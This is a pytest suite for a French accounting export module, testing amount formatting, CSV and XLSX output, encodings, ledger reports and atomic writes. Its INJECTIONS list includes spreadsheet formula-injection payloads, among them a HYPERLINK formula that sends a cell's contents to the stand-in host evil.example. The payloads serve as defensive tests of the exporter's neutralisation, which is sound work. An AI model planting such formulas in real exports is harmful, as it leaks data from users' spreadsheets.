"""CSV and XLSX exports in French conventions: formatting, report rows, formula injection,
encodings, and atomic files."""
import csv
import hashlib
import io
import os
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from backoffice.accounting import exports
from backoffice.accounting.exports import (
    JOURNAL_HEADER,
    LEDGER_HEADER,
    TRIAL_BALANCE_HEADER,
    ExportError,
    Sheet,
    format_amount,
    general_ledger_rows,
    journal_rows,
    journal_sheet,
    neutralise,
    parse_amount,
    trial_balance_rows,
    trial_balance_sheet,
    write_csv,
    write_xlsx,
)

from . import make_entry, make_line

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=1+1",
]
SAFE = ["Dupont & Fils", "", "1-2", "Cotisation 2026", " =1", "a=b", "'déjà cité"]


def read_csv_rows(data: bytes, encoding="utf-8-sig"):
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=";"))


def csv_bytes(rows, header=("A",), **options):
    buffer = io.BytesIO()
    summary = write_csv(iter(rows), header, buffer, **options)
    return buffer.getvalue(), summary


# --- formatting -----------------------------------------------------------------------

@pytest.mark.parametrize("value, text", [
    (Decimal("1234.56"), "1234,56"), (Decimal("0.00"), "0,00"), (Decimal("-12.5"), "-12,50"),
    (Decimal("-0.00"), "0,00"), (Decimal("1E+3"), "1000,00"), (7, "7,00"), (-7, "-7,00"),
    (Decimal("1234567.89"), "1234567,89"),
])
def test_format_amount(value, text):
    assert format_amount(value) == text
    assert parse_amount(text) == value


@pytest.mark.parametrize("value", [Decimal("1.005"), Decimal("NaN"), Decimal("Infinity")])
def test_format_amount_refuses_what_it_cannot_write_exactly(value):
    with pytest.raises(ExportError):
        format_amount(value)


@pytest.mark.parametrize("value", [1.5, "1.50", True, None])
def test_format_amount_refuses_non_amounts(value):
    with pytest.raises(TypeError):
        format_amount(value)


@pytest.mark.parametrize("text", ["12.50", "1 234,50", "12,5", "12", ",50", "1.234,50", ""])
def test_parse_amount_is_strict(text):
    with pytest.raises(ExportError):
        parse_amount(text)


# --- formula injection ----------------------------------------------------------------

@pytest.mark.parametrize("text", INJECTIONS)
def test_neutralise_prefixes_formula_triggers(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_neutralise_leaves_other_text(text):
    assert neutralise(text) == text


def test_csv_neutralises_text_cells_but_not_amounts():
    rows = [(text, Decimal("-12.50"), -3) for text in INJECTIONS]
    data, _ = csv_bytes(rows, header=("Libellé", "Montant", "Nombre"))
    read = read_csv_rows(data)
    assert read[0] == ["Libellé", "Montant", "Nombre"]
    assert [row[0] for row in read[1:]] == ["'" + text for text in INJECTIONS]
    assert all(row[1:] == ["-12,50", "-3"] for row in read[1:])


def test_csv_neutralises_the_header_too():
    data, _ = csv_bytes([], header=("=cmd", "ok"))
    assert read_csv_rows(data) == [["'=cmd", "ok"]]


def test_xlsx_neutralises_text_cells_but_not_amounts(tmp_path):
    path = tmp_path / "export.xlsx"
    rows = [(text, Decimal("-12.50"), date(2026, 3, 14)) for text in INJECTIONS + SAFE]
    write_xlsx([Sheet("Injection", ("=Libellé", "Montant", "Date"), iter(rows))], path)
    sheet = openpyxl.load_workbook(path)["Injection"]
    assert sheet["A1"].value == "'=Libellé"
    for index, text in enumerate(INJECTIONS + SAFE, start=2):
        cell = sheet.cell(index, 1)
        expected = "'" + text if text in INJECTIONS else text
        assert cell.data_type != "f"                     # never a formula
        assert (cell.value or "") == expected
        amount = sheet.cell(index, 2)
        assert amount.data_type == "n" and amount.value == -12.5
        assert amount.number_format == "#,##0.00"
        when = sheet.cell(index, 3)
        assert when.is_date and when.value == datetime(2026, 3, 14)
        assert when.number_format == "DD/MM/YYYY"


# --- CSV layout and encodings ---------------------------------------------------------

def test_csv_french_conventions():
    lines = make_entry(1, "1234.56", label="Cotisation été")
    data, summary = csv_bytes(journal_rows(lines), header=JOURNAL_HEADER)
    assert data.startswith(b"\xef\xbb\xbf")                  # BOM: Excel detects UTF-8
    text = data.decode("utf-8-sig")
    assert text.count("\r\n") == 3 and "\n" not in text.replace("\r\n", "")
    header, first, second = read_csv_rows(data)
    assert header == list(JOURNAL_HEADER)
    assert first[:6] == ["BQ", "Banque", "1", "14/03/2026", "512000", "Compte 512000"]
    assert first[10:13] == ["Cotisation été", "1234,56", "0,00"]
    assert second[11:13] == ["0,00", "1234,56"]
    assert first[13:] == ["", "", "14/03/2026", "", ""]
    assert summary.row_count == 2 and summary.replaced_chars == 0
    assert summary.sha256 == hashlib.sha256(data).hexdigest()


def test_csv_quotes_separators_and_newlines_inside_text():
    data, _ = csv_bytes([("a;b", "deux\r\nlignes")], header=("x", "y"))
    assert read_csv_rows(data)[1] == ["a;b", "deux\r\nlignes"]


def test_cp1252_keeps_euro_and_oe_and_replaces_the_rest_counting_them():
    rows = [("Œuvre 5 €", "Ŝŝ → fin 😀")]
    data, summary = csv_bytes(rows, header=("a", "b"), encoding="cp1252")
    assert not data.startswith(b"\xef\xbb\xbf")
    assert read_csv_rows(data, "cp1252") == [["a", "b"], ["Œuvre 5 €", "?? ? fin ?"]]
    assert summary.replaced_chars == 4


def test_cp1252_strict_names_the_row():
    rows = [("ok",), ("ok",), ("Ŝ",)]
    with pytest.raises(ExportError, match="« Ŝ ».*ligne 3"):
        csv_bytes(rows, encoding="cp1252", errors="strict")


def test_csv_refuses_unknown_encoding_and_text_files():
    with pytest.raises(ValueError):
        write_csv([], ("a",), io.BytesIO(), encoding="latin-1")
    with pytest.raises(TypeError):
        write_csv([], ("a",), io.StringIO())


# --- reports ---------------------------------------------------------------------------

def ledger_lines():
    """Lines ordered by account, then date, then entry, as the ledger expects."""
    return sorted(
        make_entry(1, "100.00", "411000", "756000", entry_date=date(2026, 1, 10))
        + make_entry(2, "100.00", "512000", "411000", entry_date=date(2026, 2, 1))
        + make_entry(3, "40.00", "411000", "756000", entry_date=date(2026, 3, 1)),
        key=lambda line: (line.account_number, line.entry_date, line.entry_number))


def test_general_ledger_running_balance_and_subtotals():
    rows = list(general_ledger_rows(iter(ledger_lines())))
    assert all(len(row) == len(LEDGER_HEADER) for row in rows)
    account_411 = [row for row in rows if row[0] == "411000"]
    assert [row[9] for row in account_411] == [Decimal("100.00"), Decimal("0.00"),
                                              Decimal("40.00"), Decimal("40.00")]
    subtotal = account_411[-1]
    assert subtotal[6] == "Total compte 411000"
    assert subtotal[7:] == (Decimal("140.00"), Decimal("100.00"), Decimal("40.00"))
    total = rows[-1]
    assert total[6] == "Total général"
    assert total[7] == total[8] == Decimal("240.00") and total[9] == 0


def test_general_ledger_refuses_unsorted_lines():
    lines = make_entry(1, "1.00", "411000", "756000") + make_entry(2, "1.00", "411000", "756000")
    with pytest.raises(ExportError, match="non triées par compte"):
        list(general_ledger_rows(iter(lines)))
    lines = [make_line(2, "411000", debit="1.00", entry_date=date(2026, 2, 1)),
             make_line(1, "411000", debit="1.00", entry_date=date(2026, 1, 1))]
    with pytest.raises(ExportError, match="non triées par date"):
        list(general_ledger_rows(iter(lines)))


def test_trial_balance_per_account_in_any_order():
    rows = list(trial_balance_rows(iter(reversed(ledger_lines()))))
    assert [row[0] for row in rows] == ["411000", "512000", "756000", None]
    assert rows[0][2:] == (Decimal("140.00"), Decimal("100.00"), Decimal("40.00"),
                           Decimal("0.00"))
    assert rows[2][2:] == (Decimal("0.00"), Decimal("140.00"), Decimal("0.00"),
                           Decimal("140.00"))
    total = rows[-1]
    assert total[1] == "Total" and total[2] == total[3] == Decimal("240.00")
    assert total[4] == total[5] == Decimal("140.00")
    assert all(len(row) == len(TRIAL_BALANCE_HEADER) for row in rows)


def test_xlsx_with_several_report_sheets(tmp_path):
    path = tmp_path / "balance.xlsx"
    counts = write_xlsx([journal_sheet(iter(ledger_lines())),
                         trial_balance_sheet(iter(ledger_lines())),
                         Sheet("Journal", ("x",), iter([(1,)])),
                         Sheet("Bad/name:[x]*?" + "y" * 40, ("x",), iter([]))], path)
    assert list(counts.values()) == [6, 4, 1, 0]
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[:3] == ["Journal", "Balance", "Journal (2)"]
    assert len(book.sheetnames[3]) == 31 and "/" not in book.sheetnames[3]
    journal = book["Journal"]
    assert [cell.value for cell in journal[1]] == list(JOURNAL_HEADER)
    assert journal["C2"].value == 1 and journal["C2"].data_type == "n"   # entry number
    assert journal["E2"].value == "411000" and journal["E2"].data_type == "s"
    balance = book["Balance"]
    assert balance["C5"].value == 240 and balance["C5"].number_format == "#,##0.00"


def test_xlsx_strips_control_characters_xml_cannot_hold(tmp_path):
    path = tmp_path / "x.xlsx"
    write_xlsx([Sheet("S", ("a",), iter([("bip\x07 bip",)]))], path)
    assert openpyxl.load_workbook(path)["S"]["A2"].value == "bip bip"


def test_xlsx_refuses_more_rows_than_excel_holds(tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)
    path = tmp_path / "x.xlsx"
    with pytest.raises(ExportError, match="limite d'Excel"):
        write_xlsx([Sheet("S", ("a",), iter([("x",)] * 4))], path)
    assert os.listdir(tmp_path) == []


# --- atomic files ----------------------------------------------------------------------

def failing_rows():
    yield ("ok", Decimal("1.00"))
    raise RuntimeError("database went away")


def test_csv_to_path_leaves_nothing_on_error(tmp_path):
    path = tmp_path / "journal.csv"
    with pytest.raises(RuntimeError):
        write_csv(failing_rows(), ("a", "b"), path)
    assert os.listdir(tmp_path) == []


def test_csv_to_path_keeps_previous_file_on_error(tmp_path):
    path = tmp_path / "journal.csv"
    path.write_bytes(b"old")
    with pytest.raises(ExportError):
        write_csv(iter([("Ŝ",)]), ("a",), path, encoding="cp1252", errors="strict")
    assert path.read_bytes() == b"old" and os.listdir(tmp_path) == ["journal.csv"]


def test_csv_to_path(tmp_path):
    path = tmp_path / "journal.csv"
    summary = write_csv(journal_rows(iter(make_entry(1, "2.00"))), JOURNAL_HEADER, str(path))
    assert summary.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert os.listdir(tmp_path) == ["journal.csv"]


def test_xlsx_leaves_nothing_on_error(tmp_path):
    path = tmp_path / "export.xlsx"
    with pytest.raises(RuntimeError):
        write_xlsx([Sheet("S", ("a", "b"), failing_rows())], path)
    assert os.listdir(tmp_path) == []


def test_unknown_cell_type_is_a_programming_error(tmp_path):
    with pytest.raises(TypeError):
        csv_bytes([(object(),)])
    with pytest.raises(TypeError):
        write_xlsx([Sheet("S", ("a",), iter([(1.5j,)]))], tmp_path / "x.xlsx")
    assert os.listdir(tmp_path) == []
